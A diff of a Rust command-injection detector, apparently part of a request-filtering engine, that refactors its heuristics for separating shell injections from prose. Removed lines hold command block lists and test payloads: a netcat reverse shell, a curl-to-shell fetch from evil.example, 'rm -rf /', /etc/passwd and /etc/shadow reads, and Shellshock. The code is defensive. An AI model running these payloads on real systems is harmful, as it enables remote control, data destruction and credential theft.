@@ -1,45 +1,32 @@
-//! OS command injection: a shell separator or substitution followed by a command shaped
-//! like a real invocation. Common English words that are also commands (`cat`, `id`,
-//! `sleep`, `curl`) only count with arguments a shell would get (a path, a flag, an
-//! address, a number), so "milk; cat food" is prose and "; cat /etc/passwd" is not.
-//! Shellshock function definitions (`() { :; };`) are matched too.
+//! OS command injection: a value that breaks out into a shell.
+//!
+//! An injection starts the value with a separator or substitution (`;id`, `| cat
+//! /etc/passwd`, `$(whoami)`, a newline), maybe after the quotes it breaks out of (`';id`),
+//! or follows one token of data with one (`127.0.0.1; cat /etc/passwd`, `x`id``). A command
+//! someone writes about is different: the whole value is a command line or a script
+//! (`git switch main && git pull`, `if [ -e "$f" ]; then`), or it sits in prose or inside
+//! Markdown code (`` ```bash ``, `` `ls -la` ``). So a separator counts only after data, and
+//! the text before the first one decides: several words, a command, a shell keyword, an
+//! assignment or a comment make the value text (see [`lead_is_text`]).
+//!
+//! Common English words that are also commands (`cat`, `id`, `sleep`, `curl`) only count
+//! with arguments a shell would get (a path, a flag, an address, a number), so "milk; cat
+//! food" is prose and "; cat /etc/passwd" is not (see [`words`]).
+//!
+//! Some shapes count wherever they are, since no text has them: Shellshock's function
+//! definition starting a value, code that runs a command (`system('id')`), evaluation
+//! probes (`$((7+7))`), reverse shells (see [`code`]); and a few command lines count as
+//! whole values by themselves (`whoami`, `cat /etc/passwd`, see [`bare`]).
+
+mod bare;
+mod code;
+mod markdown;
+mod words;
+
+#[cfg(test)]
+mod tests;
 
 use super::{Match, shell_byte};
-
-/// Commands that are never prose: they match with or without arguments.
-const STRONG: &[&str] = &[
-    "whoami",
-    "uname",
-    "ifconfig",
-    "ipconfig",
-    "netstat",
-    "powershell",
-    "pwsh",
-    "certutil",
-    "bitsadmin",
-    "wmic",
-    "nslookup",
-    "systeminfo",
-    "tasklist",
-    "passwd",
-    "useradd",
-    "crontab",
-    "xterm",
-    "busybox",
-    "mkfifo",
-];
-
-/// Commands that are also words: they need an argument shaped like [`shell_argument`].
-const WEAK: &[&str] = &[
-    "cat", "ls", "id", "dir", "echo", "type", "more", "less", "head", "tail", "wget", "curl", "nc",
-    "ncat", "netcat", "bash", "sh", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby",
-    "php", "node", "sleep", "ping", "dig", "host", "rm", "chmod", "chown", "touch", "mkdir",
-    "kill", "telnet", "cmd", "find", "env", "set", "printenv", "pwd", "ps", "tftp", "ftp",
-    "base64", "xxd", "awk", "sed", "grep", "tar", "nohup", "socat", "reboot", "shutdown", "exec",
-];
-
-/// The longest command in [`STRONG`] and [`WEAK`].
-const LONGEST_COMMAND: usize = 10;
 
 /// A server-side include directive (`<!--#exec cmd="..."-->`, Apache mod_include, IIS,
 /// nginx's SSI module): a page that echoes the value back runs it. No form value holds one
@@ -56,47 +43,98 @@ pub(super) fn server_side_include(value: &str) -> Option<Match> {
         .then(|| Match::new("cmdi:ssi", value, at, (at + 40).min(value.len())))
 }
 
-/// Checks one decoded value.
+/// What the caller knows of a value, so that each shape is only looked for where it can be.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Hints {
+    /// A whole value that is a command line counts (see [`bare`]): not in parameter names,
+    /// where `uname` is a name.
+    pub whole: bool,
+    /// The value holds a `(` and a quote, or a `{`: it may hold code (see [`code`]).
+    pub code: bool,
+    /// The value holds a `<` or `>`: it may redirect (a reverse shell, see [`code`]).
+    pub redirect: bool,
+    /// Bit `i` set: the value holds the letter `'a' + i`, in either case.
+    pub letters: u32,
+}
+
+impl Hints {
+    /// Every shape, wherever it can be.
+    pub const ALL: Hints = Hints {
+        whole: true,
+        code: true,
+        redirect: true,
+        letters: u32::MAX,
+    };
+}
+
+/// Checks one decoded value, for every shape.
 pub fn check(value: &str) -> Option<Match> {
+    check_in(value, Hints::ALL)
+}
+
+/// Checks one decoded value, for the shapes `hints` leave possible.
+pub fn check_in(value: &str, hints: Hints) -> Option<Match> {
     if value.len() < 2 {
         return None;
     }
-    if let Some(p) = super::find(value, "() {")
-        && value[p..].contains(';')
-    {
-        return Some(Match::new(
-            "cmdi:shellshock",
-            value,
-            p,
-            (p + 12).min(value.len()),
-        ));
-    }
+    shellshock(value)
+        .or_else(|| code::check(value, hints))
+        .or_else(|| separated(value))
+        .or_else(|| hints.whole.then(|| bare::check(value, hints.letters)).flatten())
+}
+
+/// Whether the pipeline's byte-shape prefilter should run [`check_in`] on a value without a
+/// separator byte: one that starts with a Shellshock definition or may be a whole command
+/// line, or may hold code that runs a command (see [`Hints`]).
+pub(super) fn may_match_without_separator(value: &str, hints: Hints) -> bool {
     let b = value.as_bytes();
-    let mut i = 0;
-    // Separators are rare: jump from one byte that may start one to the next.
-    while let Some(p) = b[i..].iter().position(|&c| shell_byte(c)) {
-        i += p;
-        let sep_len = separator(b, i);
-        if sep_len == 0 {
-            i += 1;
-            continue;
+    // Most values start with a letter or digit: one look decides which test is left.
+    let data = match b.first() {
+        Some(c) if c.is_ascii_alphanumeric() => Some(0),
+        _ => b
+            .iter()
+            .position(|&c| !matches!(c, b' ' | b'\t' | b'\r' | b'\'' | b'"' | b')')),
+    };
+    hints.code
+        || match data.map(|d| b[d]) {
+            Some(b'(') => shellshock_at(value).is_some(),
+            Some(b'\\') => newline_escape_at(b).is_some() || hints.whole && bare::may_be_command_line(value, hints.letters),
+            Some(_) => hints.whole && bare::may_be_command_line(value, hints.letters),
+            None => false,
         }
-        let start = i;
-        i += sep_len;
-        // Markdown and prose quote commands in backticks ("use `ls -la` here"); a backtick
-        // substitution counts when it is glued to the value (`x`id``, `=`id``) or starts it.
-        if b[start] == b'`' && start > 0 && b[start - 1].is_ascii_whitespace() {
-            continue;
-        }
-        if let Some(end) = command_at(
-            value,
-            i,
-            sep_len == 2 && &b[start..start + 2] == b"$(" || b[start] == b'`',
-        ) {
-            return Some(Match::new("cmdi:command", value, start, end));
-        }
-    }
-    None
+}
+
+/// Where the command after a `\n` (or `\r\n`) written out at the start of the data begins:
+/// attack lists write the newline that way (`\nid|`), for a layer that unescapes it.
+fn newline_escape_at(b: &[u8]) -> Option<usize> {
+    let data = data_start(b);
+    let rest = &b[data..];
+    let len = [&b"\\n"[..], b"\\r\\n", b"\\r"]
+        .iter()
+        .find(|e| rest.starts_with(e))?
+        .len();
+    Some(data + len)
+}
+
+/// Shellshock (CVE-2014-6271): bash imports an environment variable whose value starts
+/// with `() {` as a function, and runs what follows the definition. CGI puts headers and
+/// parameters into the environment, so the shape matters at the start of any value; code
+/// (`fn main() {`) never starts with it.
+fn shellshock(value: &str) -> Option<Match> {
+    let start = shellshock_at(value)?;
+    Some(Match::new("cmdi:shellshock", value, start, start + 12))
+}
+
+/// Where the `() {` of [`shellshock`] starts (after blanks and quotes), if the value
+/// starts with one.
+fn shellshock_at(value: &str) -> Option<usize> {
+    let b = value.as_bytes();
+    let start = b
+        .iter()
+        .position(|&c| !matches!(c, b' ' | b'\t' | b'\'' | b'"'))?;
+    let rest = b[start..].strip_prefix(b"()")?;
+    let brace = rest.iter().position(|&c| c != b' ' && c != b'\t')?;
+    (rest[brace] == b'{').then_some(start)
 }
 
 /// Length of a shell separator or substitution opener at `i` (0 if none).
@@ -115,175 +153,146 @@ fn separator(b: &[u8], i: usize) -> usize {
     }
 }
 
-/// End of a command invocation starting at byte `i` (after white space), if there is one.
-fn command_at(value: &str, i: usize, substitution: bool) -> Option<usize> {
-    let rest = skip_blanks(&value[i..]);
-    let offset = value.len() - rest.len();
-    let word_len = rest
-        .find(|c: char| {
-            c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | ')' | '`' | '<' | '>' | '$')
-        })
-        .unwrap_or(rest.len());
-    if word_len == 0 {
-        return None;
+/// Where data starts: after the blanks and the quotes and parenthesis an injection closes
+/// first (`'`, `"`, `)`).
+fn data_start(b: &[u8]) -> usize {
+    b.iter()
+        .position(|&c| !matches!(c, b' ' | b'\t' | b'\r' | b'\'' | b'"' | b')'))
+        .unwrap_or(b.len())
+}
+
+/// A command after a separator or substitution that follows data (see the module
+/// documentation).
+fn separated(value: &str) -> Option<Match> {
+    let b = value.as_bytes();
+    let data = data_start(b);
+    if let Some(at) = newline_escape_at(b)
+        && let Some(end) = words::command_at(value, at, false, true)
+    {
+        return Some(Match::new("cmdi:command", value, data, end));
     }
-    // Shell quoting inside a word does not stop the shell: w'h'o"am"i, c\at. The command
-    // is the last path component, lowercased; built on the stack, since a word longer
-    // than every command cannot be one.
-    let mut buf = [0u8; LONGEST_COMMAND];
-    let (mut len, mut too_long) = (0, false);
-    for &b in &rest.as_bytes()[..word_len] {
-        match b {
-            b'\'' | b'"' | b'\\' => {}
-            b'/' => (len, too_long) = (0, false),
-            _ if len == LONGEST_COMMAND => too_long = true,
-            _ => {
-                buf[len] = b.to_ascii_lowercase();
-                len += 1;
+    // Where the text since the previous separator and the current line start, and the
+    // first separator; Markdown code seen before it.
+    let (mut segment, mut line) = (data, data);
+    let (mut first, mut markup_before_first) = (None, false);
+    let mut i = 0;
+    // Separators are rare: jump from one byte that may start one to the next.
+    while let Some(p) = b[i..].iter().position(|&c| shell_byte(c)) {
+        let at = i + p;
+        let (len, substitution, next) = if b[at] == b'`' {
+            let run = markdown::backtick_run(b, at);
+            if run > 1 {
+                markup_before_first |= first.is_none();
+                i = markdown::skip_code(b, at, run);
+                continue;
+            }
+            let close = markdown::closing_backtick(b, at);
+            let after = close.map_or(at + 1, |c| c + 1);
+            // Inline code in prose ("use `ls -la` here"), or starting a value that goes on
+            // as prose ("`npm install` fails"); a substitution otherwise (`` `id` ``,
+            // `` x`id` ``, `` =`id` ``).
+            let prose = if at == data {
+                markdown::prose_follows(b, close)
+            } else {
+                b[at - 1].is_ascii_whitespace()
+            };
+            if prose {
+                markup_before_first |= first.is_none();
+                i = after;
+                continue;
+            }
+            (1, true, after)
+        } else {
+            if b[at] == b'$' && code::evaluation_probe(b, at) {
+                return Some(Match::new("cmdi:evaluation", value, at, at + 24));
+            }
+            match separator(b, at) {
+                0 => {
+                    i = at + 1;
+                    continue;
+                }
+                n => (n, n == 2 && b[at] == b'$', at + n),
+            }
+        };
+        // Where the first separator is: the text before it decides (see the module
+        // documentation), looked at only once a command follows a separator, since most
+        // separators (`;` in a User-Agent, `&` in prose) have none after them.
+        let lead_end = *first.get_or_insert(at);
+        if let Some(end) = words::command_at(value, at + len, substitution, true) {
+            if markup_before_first || lead_is_text(&value[data..lead_end]) {
+                return None; // The value starts as text: what follows is written, not injected.
+            }
+            let written = if at == lead_end {
+                false
+            } else if b[at] == b'|' && len == 1 {
+                // `a|b|c`: an alternation (a regular expression, a Markdown table, a
+                // list), not a pipeline, whose every element would be a command.
+                is_plain_word(&value[segment..at])
+            } else {
+                // A newline after a line of prose or code starts another line of it.
+                b[at] == b'\n' && lead_is_text(&value[line..at])
+            };
+            if !written {
+                return Some(Match::new("cmdi:command", value, at, end));
             }
         }
-    }
-    // Only ASCII bytes were dropped or split at, so the rest is whole characters.
-    let word = match too_long {
-        false => std::str::from_utf8(&buf[..len]).unwrap_or(""),
-        true => "",
-    };
-    let absolute =
-        rest.starts_with("/bin/") || rest.starts_with("/usr/") || rest.starts_with("/sbin/");
-    let after = &rest[word_len..];
-    let end = offset + word_len;
-    if absolute || STRONG.contains(&word) {
-        return Some(end);
-    }
-    if WEAK.contains(&word) && (substitution || shell_argument(word, after)) {
-        return Some((end + 24).min(value.len()).max(end));
+        segment = at + len;
+        if b[at] == b'\n' {
+            line = at + 1;
+        }
+        i = next;
     }
     None
 }
 
-fn skip_blanks(s: &str) -> &str {
-    let mut s = s;
-    loop {
-        let t = s.trim_start_matches([' ', '\t']);
-        let t = t
-            .strip_prefix("${IFS}")
-            .or_else(|| t.strip_prefix("$IFS"))
-            .unwrap_or(t);
-        if t.len() == s.len() {
-            return s;
-        }
-        s = t;
-    }
-}
-
-/// Whether what follows a weak command word is what a shell would get: the end of the value
-/// or another separator (`;id`), a flag, a path, a variable, a redirection, an IP address
-/// or URL, or a number for the time and network probes.
-fn shell_argument(word: &str, after: &str) -> bool {
-    let arg = skip_blanks(after);
-    let Some(first) = arg.chars().next() else {
-        return after.is_empty(); // `;id` at the very end, not "; id " with trailing prose.
-    };
-    if matches!(first, ';' | '|' | '&' | '`' | ')' | '>' | '<' | '$') {
-        return true;
-    }
-    if after.len() == arg.len() {
-        return false; // No white space between command and argument: part of a word.
-    }
-    let token: &str = arg.split([' ', '\t']).next().unwrap_or("");
-    if (token.starts_with('-') && token.len() > 1 && token.as_bytes()[1].is_ascii_alphanumeric())
-        || token.starts_with('/')
-        || token.starts_with("./")
-        || token.starts_with("../")
-        || token.starts_with('~')
-        || token.contains("://")
-        || (token.len() > 2 && token.as_bytes()[1] == b':' && token.as_bytes()[2] == b'\\')
-    {
-        return true;
-    }
-    let is_ip = token.split('.').count() == 4 && token.split('.').all(|p| p.parse::<u8>().is_ok());
-    if is_ip {
-        return true;
-    }
-    match word {
-        "sleep" | "ping" => token.parse::<u32>().is_ok(),
-        "nc" | "ncat" | "netcat" | "telnet" | "socat" => {
-            token.parse::<u16>().is_ok() || token.contains('.')
-        }
-        "dig" | "host" => token.contains('.') && !token.ends_with('.'),
-        _ => false,
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn attacks_match() {
-        let attacks = [
-            "127.0.0.1; cat /etc/passwd",
-            "x|id",
-            "x;id",
-            "a && whoami",
-            "$(whoami)",
-            "`id`",
-            "foo; ls -la",
-            "8.8.8.8 | nc 10.0.0.1 4444 -e /bin/sh",
-            "x; sleep 10",
-            "x & ping -c 5 attacker.example",
-            "; /bin/bash -i",
-            "a;c'a't /etc/shadow",
-            "x;cat${IFS}/etc/passwd",
-            "x\nwhoami",
-            "| powershell -enc AAAA",
-            "& type C:\\windows\\win.ini",
-            "() { :; }; /bin/bash -c 'id'",
-            "x; curl http://evil.example/x.sh | sh",
-            "file.txt; rm -rf /",
-            "$(sleep 5)",
-        ];
-        let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
-        assert!(missed.is_empty(), "missed: {missed:?}");
-    }
-
-    #[test]
-    fn separators_start_only_at_marked_bytes() {
-        for c in 0..=255u8 {
-            for next in [c, b'(', b'x'] {
-                let found = separator(&[c, next], 0) > 0;
-                assert!(!found || shell_byte(c), "{c} {next}");
+/// Whether the text before a separator is prose or shell code someone wrote, not the
+/// data an injection follows: three words or more, two when one is shell syntax (a flag,
+/// `$`, `[`, `=`, a quote) or the first is a command ("cd /tmp", "make -j4"); one word
+/// that is a command or keyword (`fi`, `echo`), a comment or shebang (`#`), or a variable
+/// assignment (`dir=`, `X="`), which is how a command substitution sits in a script.
+fn lead_is_text(lead: &str) -> bool {
+    let t = lead.trim_matches([' ', '\t', '\r']);
+    let b = t.as_bytes();
+    // One pass: count words (up to three) and note shell syntax.
+    let (mut words, mut first_end, mut syntax) = (0, b.len(), false);
+    for (i, &c) in b.iter().enumerate() {
+        if c == b' ' || c == b'\t' {
+            if words == 1 && first_end == b.len() {
+                first_end = i;
             }
+            continue;
         }
-    }
-
-    #[test]
-    fn longest_command_is_the_longest() {
-        let longest = STRONG.iter().chain(WEAK).map(|c| c.len()).max();
-        assert_eq!(longest, Some(LONGEST_COMMAND));
-    }
-
-    #[test]
-    fn benign_text_does_not_match() {
-        let benign = [
-            "Buy milk; cat food",
-            "Tom & Jerry",
-            "salt; pepper; echo chamber music",
-            "R&D department",
-            "I can't sleep at night",
-            "Q&A: how do I ping my friend?",
-            "fish & chips | beer",
-            "price: $(5.00)",
-            "ls",
-            "rock & roll; id est",
-            "AT&T",
-            "me & my host family",
-            "cats; dogs",
-            "terms & conditions; type carefully",
-            "Use `ls -la` to list files",
-        ];
-        for b in benign {
-            assert_eq!(check(b), None, "{b}");
+        if i == 0 || matches!(b[i - 1], b' ' | b'\t') {
+            words += 1;
+            if words == 3 {
+                return true;
+            }
+            syntax |= c == b'-';
         }
+        syntax |= matches!(c, b'$' | b'[' | b'=' | b'"' | b'\'');
     }
+    let first = &t[..first_end];
+    match words {
+        0 => false, // The value starts with the separator.
+        1 => first.starts_with('#') || is_assignment(first) || words::is_shell_word(first),
+        _ => syntax || first.starts_with('#') || words::is_shell_word(first),
+    }
+}
+
+/// One word of letters, digits and `_` that is not a command: what an alternation lists.
+fn is_plain_word(segment: &str) -> bool {
+    let w = segment.trim_matches([' ', '\t']);
+    !w.is_empty()
+        && w.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+        && !words::is_shell_word(w)
+}
+
+/// `NAME=` or `NAME="` / `NAME='`: a shell variable assignment, as a script writes
+/// `dir=$(pwd)` or ``dir=`pwd` ``.
+fn is_assignment(word: &str) -> bool {
+    let w = word.trim_end_matches(['"', '\'']);
+    w.strip_suffix('=').is_some_and(|name| {
+        name.bytes().next().is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
+            && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+    })
 }
